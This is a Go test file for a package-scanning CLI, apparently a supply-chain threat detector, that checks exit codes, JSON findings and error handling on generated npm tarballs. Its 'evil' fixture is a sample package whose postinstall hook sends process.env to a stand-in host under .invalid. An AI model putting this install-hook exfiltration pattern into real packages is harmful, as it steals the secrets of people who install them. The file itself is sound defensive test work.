package main_test

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"

	"github.com/threatd/threatd/cmd/internal/testbin"
)

// npmTgz writes an npm tarball of files (under package/) and returns its path.
func npmTgz(t *testing.T, name string, files map[string]string) string {
	t.Helper()
	var names []string
	for n := range files {
		names = append(names, n)
	}
	sort.Strings(names)
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	tw := tar.NewWriter(zw)
	for _, n := range names {
		_ = tw.WriteHeader(&tar.Header{Name: "package/" + n, Mode: 0o644, Size: int64(len(files[n])), Typeflag: tar.TypeReg})
		_, _ = tw.Write([]byte(files[n]))
	}
	_ = tw.Close()
	_ = zw.Close()
	p := filepath.Join(t.TempDir(), name)
	if err := os.WriteFile(p, buf.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	return p
}

// TestAnalyzeCLI: threatd analyze reads an archive with the rules
// analyzer plugin (a real process, libyara inside) and exits 1 when the
// version is suspicious, 0 when clean, 2 on an error; --previous keeps a
// finding the previous version had from counting; --json is the result.
// The samples are inert (their hosts are under .invalid) and never run.
func TestAnalyzeCLI(t *testing.T) {
	t.Parallel()
	testbin.NeedAnalyzer(t)
	in := newInstance(t, "")
	clean := map[string]string{"package.json": `{"name":"lib","version":"1.0.0"}`, "index.js": "module.exports = (a, b) => a + b;\n"}
	evil := map[string]string{"package.json": `{"name":"lib","version":"1.0.1","scripts":{"postinstall":"node index.js"}}`,
		"index.js": "const https = require('https');\nconst body = JSON.stringify(process.env);\nconst r = https.request({hostname: 'collect.analyze.invalid', method: 'POST'});\nr.write(body); r.end();\n"}
	cleanTgz, evilTgz := npmTgz(t, "lib-1.0.0.tgz", clean), npmTgz(t, "lib-1.0.1.tgz", evil)

	r := in.cli("analyze", cleanTgz)
	if r.code != 0 || !strings.Contains(r.stdout, "CLEAN") {
		t.Fatalf("clean: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	r = in.cli("analyze", evilTgz)
	if r.code != 1 || !strings.Contains(r.stdout, "SUSPICIOUS") || !strings.Contains(r.stdout, "threatd_env_dump_sent  package/index.js:2") {
		t.Fatalf("suspicious: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	r = in.cli("analyze", "--json", evilTgz, "--previous", cleanTgz)
	var out struct {
		Path, Digest, Previous, Verdict string
		Score                           float64
		Analyzers                       []string
		Findings                        []struct {
			Rule, Severity, File, Excerpt, Description string
			Line                                       int
			New                                        bool
		}
	}
	if err := json.Unmarshal([]byte(r.stdout), &out); err != nil || r.code != 1 {
		t.Fatalf("--json: exit %d, %v\n%s", r.code, err, r.stdout)
	}
	b, _ := os.ReadFile(evilTgz)
	sum := sha256.Sum256(b)
	if out.Verdict != "suspicious" || out.Digest != hex.EncodeToString(sum[:]) || len(out.Analyzers) != 1 || out.Analyzers[0] != "rules" ||
		len(out.Findings) == 0 || out.Findings[0].Rule != "threatd_env_dump_sent" || !out.Findings[0].New || out.Findings[0].Line != 2 ||
		!strings.Contains(out.Findings[0].Excerpt, "JSON.stringify(process.env)") || out.Score <= 0 {
		t.Fatalf("--json: %+v", out)
	}
	// The previous version had the same code: nothing is new.
	evilAgain := npmTgz(t, "lib-1.0.2.tgz", map[string]string{"package.json": evil["package.json"], "index.js": evil["index.js"] + "// 1.0.2\n"})
	if r := in.cli("analyze", evilAgain, "--previous", evilTgz); r.code != 0 || !strings.Contains(r.stdout, "CLEAN") {
		t.Fatalf("an old finding: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}

	whole, _ := os.ReadFile(cleanTgz)
	truncated := filepath.Join(t.TempDir(), "cut.tgz")
	_ = os.WriteFile(truncated, whole[:len(whole)/2], 0o644)
	if r := in.cli("analyze", truncated); r.code != 2 || !strings.Contains(r.stdout, "ERROR") || !strings.Contains(r.stdout, "error: ") {
		t.Fatalf("truncated: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	if r := in.cli("analyze", filepath.Join(t.TempDir(), "missing.tgz")); r.code != 2 || !strings.Contains(r.stderr, "no such file") {
		t.Fatalf("missing: exit %d\n%s", r.code, r.stderr)
	}
	other := newInstance(t, "analysis:\n  analyzers: [nope]\n")
	if r := other.cli("analyze", cleanTgz); r.code != 2 || !strings.Contains(r.stderr, `analyzer plugin "nope" not found`) {
		t.Fatalf("a missing analyzer: exit %d\n%s", r.code, r.stderr)
	}
	if r := other.cli("analyze"); r.code != 2 || !strings.Contains(r.stderr, "name one archive") {
		t.Fatalf("no archive: exit %d\n%s", r.code, r.stderr)
	}
}
